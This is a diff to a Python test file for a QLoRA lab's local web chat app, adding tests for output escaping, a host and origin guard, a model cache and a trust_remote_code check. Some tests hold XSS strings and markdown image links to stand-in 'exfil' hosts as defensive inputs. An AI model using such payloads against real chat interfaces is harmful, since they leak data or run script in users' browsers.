@@ -27,7 +27,16 @@ from qlora_lab import web_pages
 from qlora_lab.config import DatasetConfig, GenerationConfig
 from qlora_lab.data import encode, render_prompt
 from qlora_lab.inference import generate, load_for_inference
-from qlora_lab.pipelines.web import ModelSlot, conversation_ids, generation_settings, stream_reply
+from qlora_lab.pipelines.web import (
+    Guard,
+    ModelCache,
+    as_reply,
+    as_typed,
+    conversation_ids,
+    generation_settings,
+    served_names,
+    stream_reply,
+)
 from qlora_lab.report import write_report
 
 from .conftest import ROOT, TINY, cli, make_cfg
@@ -72,7 +81,7 @@ def test_runs_table_lists_runs_newest_first_without_the_web_app_itself(tmp_path)
     rows = web_pages.runs_table(tmp_path)
     assert [r["run"] for r in rows] == ["multirun/s/0_x=1", "a/old"]
     old = rows[1]
-    assert old == {"run": "a/old", "date": "2026-11-01 10:00", "model": "m", "quantization": "nf4",
+    assert old == {"run": "a/old", "started (UTC)": "2026-11-01 10:00", "model": "m", "quantization": "nf4",
                    "dataset": "alpaca (8)", "stages": "train", "status": "completed",
                    "eval loss before": "2.5000", "eval loss after": "1.2500"}
     assert rows[0]["status"] == "failed: boom" and rows[0]["eval loss after"] == "–"
@@ -130,7 +139,7 @@ def test_conversation_is_rendered_as_in_training_and_trimmed_to_fit(tokenizer):
 
 def test_stream_reply_streams_what_generate_returns(outputs):
     cfg = make_cfg([*TINY, "quantization=none"])
-    slot = ModelSlot(cfg, None)
+    slot = ModelCache(cfg, None)
     loaded = slot.get(None, "base")
     prompt = render_prompt([{"role": "user", "content": "Name a colour."}], loaded.tokenizer, cfg.dataset)
     ids = encode(prompt, loaded.tokenizer, return_tensors="pt")["input_ids"]
@@ -144,7 +153,7 @@ def test_stream_reply_streams_what_generate_returns(outputs):
 
 
 def test_a_failed_generation_is_raised_to_the_page(outputs):
-    slot = ModelSlot(make_cfg([*TINY, "quantization=none"]), None)
+    slot = ModelCache(make_cfg([*TINY, "quantization=none"]), None)
     loaded = slot.get(None, "base")
     ids = torch.tensor([[1, 2, 3]])
     gen = generation_settings(GREEDY, False, 1.0, 50, 1.0, 4, 1.0)
@@ -153,24 +162,118 @@ def test_a_failed_generation_is_raised_to_the_page(outputs):
         list(stream_reply(loaded, ids, gen))
 
 
-def test_model_slot_holds_one_model_at_a_time(outputs):
+def generation_threads() -> list[threading.Thread]:
+    return [t for t in threading.enumerate() if t.name == "web-generate"]
+
+
+def test_stop_and_closing_end_the_generation(outputs):
+    """The Stop button's event ends the answer early; a closed stream (page gone, event cancelled) ends generate()."""
+    loaded = ModelCache(make_cfg([*TINY, "quantization=none"]), None).get(None, "base")
+    ids = torch.tensor([[1, 2, 3]])
+    long = GenerationConfig(max_new_tokens=500)
+    stop = threading.Event()
+    steps = []
+    for _, stats in stream_reply(loaded, ids, long, stop):
+        steps.append(stats)
+        if stats["new_tokens"] >= 5:
+            stop.set()
+    assert steps[-1]["stopped"] and 5 <= steps[-1]["new_tokens"] < 500 and not generation_threads()
+
+    stream = stream_reply(loaded, ids, long)
+    next(stream)
+    assert generation_threads()
+    stream.close()  # what Gradio does when the client goes away
+    assert not generation_threads()
+
+
+def test_page_text_shows_what_was_typed_and_no_html_or_images():
+    typed = "<script>alert(1)</script> **bold** ![x](http://127.0.0.2:8765/exfil?secret=42) a_b & 1. $x$"
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt().render(as_typed(typed))
+    assert "<script" not in html and "<img" not in html and "<strong" not in html
+    import html as html_lib
+    import re as re_lib
+
+    assert html_lib.unescape(re_lib.sub(r"<[^>]+>", "", html)).strip() == typed
+    reply = "Look: ![x](http://evil/exfil) <img src=x onerror=alert(1)> `<b>code</b>`\n```\n<i>kept</i>\n```"
+    html = MarkdownIt().render(as_reply(reply))
+    assert "<img" not in html and "exfil" in html  # the image's markdown shown as text, not fetched
+    assert "&lt;b&gt;code&lt;/b&gt;" in html and "&lt;i&gt;kept&lt;/i&gt;" in html  # code as written
+
+
+def test_the_evaluate_command_suggested_for_a_sweep_job_can_be_pasted(tmp_path):
+    """A sweep job's folder name holds `=`, `+` and `,`: the command quotes it for the shell and for Hydra."""
+    import shlex
+
+    from hydra.core.override_parser.overrides_parser import OverridesParser
+
+    job = tmp_path / "multirun" / "s" / "3_+experiment=lora_vs_qlora,dataset.size=16,quantization=nf4"
+    text = web_pages.run_details(job)["evaluation"]
+    command = text.split("`")[1]
+    words = shlex.split(command)
+    assert words[:4] == ["python", "-m", "qlora_lab", "pipeline=evaluate"], command
+    override = OverridesParser.create().parse_overrides(words[4:])[0]
+    assert override.key_or_group == "run_dir" and override.value() == str(job)
+    assert web_pages.shell_arg("run_dir", "outputs/a/b") == "run_dir=outputs/a/b"
+
+
+def test_the_guard_refuses_foreign_hosts_cross_origin_posts_and_uploads():
+    from starlette.applications import Starlette
+    from starlette.responses import PlainTextResponse
+    from starlette.routing import Route
+    from starlette.testclient import TestClient
+
+    ok = lambda request: PlainTextResponse("ok")  # noqa: E731
+    app = Starlette(routes=[Route("/config", ok), Route("/gradio_api/queue/join", ok, methods=["POST"]),
+                            Route("/gradio_api/upload", ok, methods=["POST"])])
+    client = TestClient(Guard(app, served_names("127.0.0.1")), base_url="http://127.0.0.1:7860")
+    page = client.get("/config")
+    assert page.status_code == 200 and "img-src 'self'" in page.headers["content-security-policy"]
+    assert client.get("/config", headers={"Host": "[::1]:7860"}).status_code == 200
+    assert client.get("/config", headers={"Host": "attacker.example:7860"}).status_code == 400
+    assert client.post("/gradio_api/queue/join", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 200
+    assert client.post("/gradio_api/queue/join", headers={"Origin": "http://evil.example"}).status_code == 403
+    assert client.post("/gradio_api/queue/join", headers={"Origin": "null"}).status_code == 403
+    assert client.post("/gradio_api/upload", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 403
+    assert "attacker.example" in served_names("attacker.example") and served_names("0.0.0.0") > served_names("127.0.0.1")
+
+
+def test_model_cache_keeps_models_within_its_budget(outputs):
     run_dir = outputs / "tiny" / "run1"
     cfg = make_cfg([*TINY, "quantization=none", f"run_dir={run_dir}"])
-    slot = ModelSlot(cfg, run_dir)
-    first = slot.get(run_dir, "adapter")
-    assert slot.get(run_dir, "adapter") is first  # the same request reuses the loaded model
+    cache = ModelCache(cfg, run_dir, budget=10**12)  # room for both: side by side loads each once
+    first = cache.get(run_dir, "adapter")
+    second = cache.get(run_dir, "base")
+    assert cache.get(run_dir, "adapter") is first and cache.get(run_dir, "base") is second
+    assert first.bytes > 0 and not hasattr(second.model, "peft_config")
+
+    small = ModelCache(cfg, run_dir, budget=first.bytes + first.bytes // 2)  # room for one of these
+    first = small.get(run_dir, "adapter")
+    assert small.to_drop(small.key(run_dir, "base")) == [(str(run_dir), "adapter")]
     gone = weakref.ref(first.model)
     del first
-    second = slot.get(run_dir, "base")
+    second = small.get(run_dir, "base")
     gc.collect()
-    assert gone() is None and second.key == (str(run_dir), "base")
-    assert not hasattr(second.model, "peft_config")
+    assert gone() is None and list(small.loaded) == [(str(run_dir), "base")]
+
+
+def test_a_browsed_run_cannot_turn_on_trust_remote_code(outputs, tmp_path):
+    """A run folder's saved config may say trust_remote_code: true; only the app's own command line can."""
+    run_dir = tmp_path / "sneaky"
+    shutil.copytree(outputs / "tiny" / "run1", run_dir)
+    saved = OmegaConf.load(run_dir / ".hydra" / "config.yaml")
+    saved.model.trust_remote_code = True
+    OmegaConf.save(saved, run_dir / ".hydra" / "config.yaml")
+    assert ModelCache(make_cfg([*TINY]), None).run_config(run_dir).model.trust_remote_code is False
+    trusting = make_cfg([*TINY, "model.trust_remote_code=true"])
+    assert ModelCache(trusting, None).run_config(run_dir).model.trust_remote_code is True
 
 
 def test_adapter_mode_loads_what_the_run_trained(outputs):
     """The slot loads a run chosen in the page with that run's own config (here: not the job's)."""
     run_dir = outputs / "tiny" / "run1"
-    slot = ModelSlot(make_cfg(["quantization=nf4"]), None)  # the job's own settings differ from the run's
+    slot = ModelCache(make_cfg(["quantization=nf4"]), None)  # the job's own settings differ from the run's
     cfg = slot.run_config(run_dir)
     assert cfg.model.name_or_path == "tiny-random-llama" and cfg.quantization.method.value == "none"
     loaded = slot.get(run_dir, "adapter")
